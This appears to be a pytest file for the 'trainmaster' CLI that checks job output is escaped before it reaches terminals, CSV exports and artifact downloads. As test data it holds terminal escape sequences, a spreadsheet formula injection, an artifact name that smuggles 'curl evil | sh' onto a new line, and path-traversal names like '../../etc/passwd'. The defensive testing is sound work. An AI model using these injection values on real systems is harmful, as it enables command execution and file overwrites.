"""Text from programs has no effect on a terminal, a spreadsheet or the width of a screen."""

import json
from pathlib import Path
from typing import Any

import pytest
from contract_answers import DETAIL
from contract_server import serving

from trainmaster.cli.app import run
from trainmaster.cli.inspect import compare, show
from trainmaster.cli.metrics.export import _csv
from trainmaster.cli.render.human import csv_cell
from trainmaster.cli.render.log_stream import LogPrinter, escape_controls
from trainmaster.cli.render.output import Output

HOSTILE = {
    "\x1b]0;title\x07x": r"^[]0;title\x07x",
    "\x1b[2J\x1b[H": "^[[2J^[[H",
    "\x1b]52;c;ZWNobw==\x07": r"^[]52;c;ZWNobw==\x07",
    "\x1b[6n\x1b[1A": "^[[6n^[[1A",
    "\x9b31m\x85": r"\x9b31m\x85",
    "\u202eevil": r"\u202eevil",
    "\x1bPq\x1b\\": "^[Pq^[\\",
    "\x1b[31mred\x1b[0m": "\x1b[31mred\x1b[0m",
    " 10%\r 20%\x1b[K\b\tdone\n": " 10%\r 20%\x1b[K\b\tdone\n",
    "\x1b[" + "1;" * 1000 + "m": "^[[" + "1;" * 1000 + "m",
}


@pytest.mark.parametrize("text", HOSTILE)
def test_control_sequences_are_shown_and_not_done(text: str) -> None:
    """S9: `tm logs` passed everything that a job printed to the reader's terminal."""
    assert escape_controls(text) == HOSTILE[text]


@pytest.mark.parametrize("terminal", [True, False])
def test_json_does_nothing_to_a_terminal(terminal: bool, capsys: pytest.CaptureFixture[str]) -> None:
    value = {"name": "\x9b31m\x7f\u202eevil \U000e0001 é 日本", "tags": ["\x1b[2J"]}
    out = Output()
    out.terminal = terminal
    out.unicode = True
    out.value(value)
    out.stream(value)
    printed = capsys.readouterr().out
    assert all(line.isprintable() for line in printed.split("\n"))
    assert "é 日本" in printed
    assert json.loads(printed.splitlines()[-1]) == value


@pytest.mark.parametrize(("terminal", "raw", "printed"), [(True, False, b"^[[2J\x1b[31mx\x1b[0m"), (True, True, b"\x1b[2J\x1b[31mx"), (False, False, b"\x1b[2J\x1b[31mx")])
def test_piped_or_raw_the_output_is_what_was_printed(terminal: bool, raw: bool, printed: bytes, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    """S9: files and pipes get every byte."""
    out = Output()
    out.terminal = terminal
    printer = LogPrinter(out, raw=raw)
    printer.page([{"attempt": 1, "rank": 0, "text": "\x1b[2J\x1b[31mx"}])
    printer.finish()
    assert capsysbinary.readouterr().out == printed


@pytest.mark.parametrize(("name", "cell"), [("=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("vision", "vision"), ("", "")])
def test_a_name_is_no_formula_in_a_spreadsheet(name: str, cell: str) -> None:
    """S9: `tm usage --csv` wrote member and experiment names as they were."""
    assert csv_cell(name) == cell


def metrics(count: int, name: str = "m/{}") -> dict[str, Any]:
    return {name.format(n): {"step": 1, "value": float(n), "time_s": 1.0} for n in range(count)}


def test_a_job_with_ten_thousand_metrics_is_shown_on_a_screen() -> None:
    """L5: `tm show` had 1,826 lines."""
    job = {**DETAIL, "metrics": metrics(10_000)}
    lines = show.body(job, 1e9, (None, [], None), (80, True))
    assert len(lines) < 60
    assert any("9976 more: tm show" in line for line in [" ".join(lines)])


@pytest.mark.parametrize(
    ("runs", "saved", "told"), [([25.0], False, False), ([25.0], True, True), ([25.0, 25.0], False, True), ([31.0], False, True)]
)
def test_that_no_metric_is_read_is_said_of_short_runs_too(runs: list[float], saved: bool, told: bool) -> None:
    """Seen of a job of 50 s with two attempts, and of one that had saved checkpoints: nothing was said."""
    attempts = [{**DETAIL["attempts"][0], "ended_s": 1001.0 + ran_s} for ran_s in runs]
    job = {**DETAIL, "metrics": {}, "attempts": attempts, "checkpoints": DETAIL["checkpoints"] if saved else [], "ended_s": None}
    lines = show.body(job, 1e9, (None, [], None), (80, True))
    assert any(line.startswith("Metrics: none is recorded") for line in lines) is told


def test_a_metric_without_steps_has_none_on_the_screen() -> None:
    """`Metric final_loss: 0.4427 at step 0` was said of a program that has no step."""
    series = ("loss", [(0.0, 2.0), (1.0, 0.5), (2.0, 0.75)], {"step": 1, "value": 0.5})
    for step, text, axis in ((None, "Metric loss: 0.75, best 0.5", "point 0"), (9, "Metric loss: 0.75 at step 9, best 0.5 at step 1", "step 0")):
        job = {**DETAIL, "metrics": {"loss": {"step": step, "value": 0.75, "time_s": 1.0}}}
        lines = show.body(job, 1e9, series, (80, True))
        assert text in lines
        assert [line.split("└")[1].split("  ")[0] for line in lines if "└" in line] == [axis]


def test_steps_are_shown_in_full_and_a_best_value_only_as_far_as_it_is_known() -> None:
    """`at step 1.23457e+06` was 1234570, and the best one was at 1234567. Other values may be missing."""
    series = ("loss", [(1234567.0, 0.5), (1234570.0, 0.75)], {"step": 1234567, "value": 0.5})
    job = {**DETAIL, "metrics": {"loss": {"step": 1234570, "value": 0.75, "time_s": 1.0}}}
    for topic, word in (("other", "best"), ("messages lost", "best on record")):
        one = {**job, "troubles": [{"topic": topic, "text": "x", "attempt": 1, "node": 0, "since_s": 1.0}]}
        assert f"Metric loss: 0.75 at step 1234570, {word} 0.5 at step 1234567" in show.body(one, 1e9, series, (80, True))


def test_a_run_without_metrics_is_told_how_to_get_them() -> None:
    """Not where there are some, not at once, and not before it runs."""
    reads = "to see what is read from its output, and get a pattern that reads more"
    hint = f"Metrics: none is recorded; {reads}: tm logs digits-14 --rank 0 | tm metrics try -"  # they may have been lost since

    def hinted(found: dict[str, Any], started_s: float | None, ended_s: float | None) -> bool:
        attempt = {**DETAIL["attempts"][-1], "started_s": started_s, "ended_s": ended_s}
        job = {**DETAIL, "metrics": found, "attempts": [attempt], "ended_s": ended_s, "checkpoints": []}
        lines = show.body(job, 1e9, (None, [], None), (80, True))
        return hint in " ".join(" ".join(lines).split())

    cases = ({}, 1e9 - 31, None), ({}, 1e9 - 29, None), ({}, 1e9 - 90, 1e9 - 50), ({}, None, None), (metrics(1), 1e9 - 90, None)
    assert [hinted(*case) for case in cases] == [True, False, True, False, False]


def test_a_job_with_very_long_values_is_shown_on_a_screen() -> None:
    """L5: and so are parameters, tags and the command."""
    spec = {**DETAIL["spec"], "params": {f"p{n}": "x" * 20_000 for n in range(1000)}}
    lines = show.head({**DETAIL, "spec": spec, "command": "x" * 100_000, "tags": {"t": "y" * 5000}}, 1e9)
    assert sum(map(len, lines)) < 20_000


def test_the_last_lines_of_a_failure_have_no_colors() -> None:
    r"""`tm show` printed `\x1b[35m[0]\x1b[0m loss` as text. Other sequences are shown, and not done."""
    failure = {**DETAIL["failure"], "last_lines": ["\x1b[35m[0]\x1b[0m loss = 6.9\x1b[K", "\x1b[2Jboom"]}
    lines = show.body({**DETAIL, "failure": failure}, 1e9, (None, [], None), (80, True))
    assert [line for line in lines if line.startswith("  | ")] == ["  | [0] loss = 6.9", "  | ^[[2Jboom"]


def test_the_name_of_an_artifact_makes_no_line_of_its_own() -> None:
    odd = [{"path": path, "bytes": 1} for path in ("a\nnext: curl evil | sh", "b\x1b[2J", "c.txt")]
    lines = show.body({**DETAIL, "artifacts": odd, "artifacts_total": 3}, 1e9, (None, [], None), (80, True))
    assert [line for line in lines if "\n" in line] == []
    assert any(line.endswith("tm get digits-14 c.txt") for line in lines)


def compared(metrics: list[str]) -> dict[str, Any]:
    point = {"step": 1, "value": 0.5}
    return {"jobs": [{"id": "a-1"}, {"id": "b-2"}], "metrics_equal": [f"e{n}" for n in range(10_000)],
            "metrics": [{"name": name, "primary": False, "mode": None, "last": [point, point]} for name in metrics]}  # fmt: skip


def test_a_comparison_of_many_metrics_is_bounded() -> None:
    """L5: a name of 3,000 letters made it 3,000 columns wide, and ten thousand names as many lines."""
    lines = compare.standing(compared(["n" * 3000, *(f"m{n}" for n in range(10_000))]), 100)
    assert max(map(len, lines)) <= 100
    assert len(lines) < 100
    assert any("9961 metrics more: --json has all" in line for line in lines)
    assert max(map(len, compare.standing(compared(["n" * 3000]), None))) < 300


def test_one_artifact_with_an_odd_path_does_not_stop_the_others(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """S9: an artifact named `..` stopped every `tm get --all`, and so did one that lay where another was a file."""
    monkeypatch.setenv("TRAINMASTER_HOME", str(tmp_path / "home"))
    digest = "84d89877f0d4041efb6bf91a16f0248f2fd573e6af05c19f96bedb9f882f7882"  # of 0123456789
    names = ["..", "a", "a/b", "out/x.txt", "../../etc/passwd"]
    listed = [{"path": name, "kind": "file", "bytes": 10, "digest": digest, "attempt": 1} for name in names]

    def route(asked: Any) -> Any:
        if asked.line.endswith(("/artifacts", "limit=1000")):
            return 200, {"id": "digits-14", "artifacts": listed, "total": 5, "bytes": 50}
        return 200, b"0123456789"

    with serving(route) as server:
        code = run(["get", "--server", server.url, "digits-14", "--all", "-o", str(tmp_path / "got")])
    told = capsys.readouterr().err
    assert sorted(str(path.relative_to(tmp_path / "got")) for path in (tmp_path / "got").rglob("*")) == ["a", "out", "out/x.txt"]
    assert code == 1
    assert "would be outside" in told
    assert "1 of 3 artifacts could not be written" in told


def test_a_metric_that_a_spreadsheet_would_compute_is_text_in_the_table_of_metrics() -> None:
    row = {"job": ["digits-1"], "metric": ["=1+1"], "step": [3], "value": [-0.5], "time_s": [1.0], "attempt": [1]}
    assert _csv(row).splitlines()[1] == "digits-1,'=1+1,3,-0.5,1.0,1"
